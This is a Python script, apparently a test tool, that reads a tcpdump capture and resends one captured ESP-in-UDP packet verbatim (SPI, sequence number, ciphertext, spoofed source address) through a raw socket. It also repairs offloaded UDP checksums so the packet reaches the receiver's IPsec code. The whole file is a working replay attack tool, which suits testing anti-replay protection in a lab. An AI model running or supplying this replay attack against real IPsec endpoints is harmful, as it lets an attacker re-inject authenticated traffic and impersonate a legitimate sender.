#!/usr/bin/env python3
"""esp_replay.py - resend one captured ESP-in-UDP packet verbatim (a replay attack).

Usage (inside the sender's network namespace, as root):
    esp_replay.py CAPTURE.pcap [INDEX]

Reads a classic pcap file (tcpdump -w; link type Ethernet or Linux cooked/raw IP), takes the
INDEX-th (0-based, default 0) IPv4 UDP packet whose payload is ESP (not a NAT keepalive, not
IKE behind the non-ESP marker: the first four octets, the SPI, are non-zero), and sends its IP
packet as captured - addresses, ports, SPI, sequence number, ciphertext, ICV - through a raw
socket with IP_HDRINCL (IPPROTO_RAW), so the receiver sees the client's address and port.

The one thing rewritten is a UDP checksum that is not valid: a capture on a veth device holds
packets whose checksum was left to "hardware" (CHECKSUM_PARTIAL, only the pseudo-header sum is
in the field); such a packet sent as it is would be dropped by the receiver's UDP layer and
never reach the ESP code. The script then writes the correct checksum and says so on stderr.
Prints one line: "replayed SPI 0x... seq N (B octets) SRC:PORT -> DST:PORT".
"""
import socket
import struct
import sys


def packets(path):
    with open(path, "rb") as f:
        hdr = f.read(24)
        if len(hdr) < 24:
            sys.exit(f"{path}: not a pcap file (too short)")
        magic = hdr[:4]
        if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1"):
            e = "<"
        elif magic in (b"\xa1\xb2\xc3\xd4", b"\xa1\xb2\x3c\x4d"):
            e = ">"
        else:
            sys.exit(f"{path}: not a classic pcap file (magic {magic.hex()}; pcapng is not read)")
        linktype = struct.unpack(e + "I", hdr[20:24])[0]
        while True:
            rec = f.read(16)
            if len(rec) < 16:
                return
            incl = struct.unpack(e + "IIII", rec)[2]
            data = f.read(incl)
            if linktype == 1:  # Ethernet
                if len(data) < 14 or data[12:14] != b"\x08\x00":
                    continue
                yield data[14:]
            elif linktype == 113:  # Linux cooked (SLL)
                if len(data) < 16 or data[14:16] != b"\x08\x00":
                    continue
                yield data[16:]
            elif linktype in (12, 101):  # raw IP
                yield data
            else:
                sys.exit(f"{path}: link type {linktype} not handled")


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def esp_in_udp(ip):
    """(ihl, udp) if ip is an IPv4 UDP datagram carrying ESP, else None."""
    if len(ip) < 20 or ip[0] >> 4 != 4 or ip[9] != 17:
        return None
    ihl = (ip[0] & 0x0F) * 4
    total = struct.unpack("!H", ip[2:4])[0]
    udp = ip[ihl:total]
    if len(udp) < 8 + 8 or udp[8:12] == b"\0\0\0\0":
        return None
    return ihl, udp


def main():
    if len(sys.argv) not in (2, 3):
        sys.exit(__doc__)
    want = int(sys.argv[2]) if len(sys.argv) == 3 else 0
    found = [p for p in packets(sys.argv[1]) if esp_in_udp(p)]
    if want >= len(found):
        sys.exit(f"{sys.argv[1]}: {len(found)} ESP-in-UDP packets, no index {want}")
    ip = bytearray(found[want])
    ihl, udp = esp_in_udp(bytes(ip))
    total = struct.unpack("!H", ip[2:4])[0]
    ip = ip[:total]
    src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
    sport, dport, ulen, ucsum = struct.unpack("!HHHH", udp[:8])
    pseudo = ip[12:20] + struct.pack("!BBH", 0, 17, len(udp))
    if ucsum != 0 and csum(pseudo + udp) != 0xFFFF:
        zeroed = udp[:6] + b"\0\0" + udp[8:]
        c = (~csum(pseudo + zeroed)) & 0xFFFF or 0xFFFF
        struct.pack_into("!H", ip, ihl + 6, c)
        print(f"esp_replay: UDP checksum 0x{ucsum:04x} of the capture is not valid (offloaded); "
              f"sending it with 0x{c:04x}", file=sys.stderr)
    spi, seq = struct.unpack("!II", udp[8:16])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(bytes(ip), (dst, 0))
    print(f"replayed SPI 0x{spi:08x} seq {seq} ({len(ip)} octets) {src}:{sport} -> {dst}:{dport}")


if __name__ == "__main__":
    main()
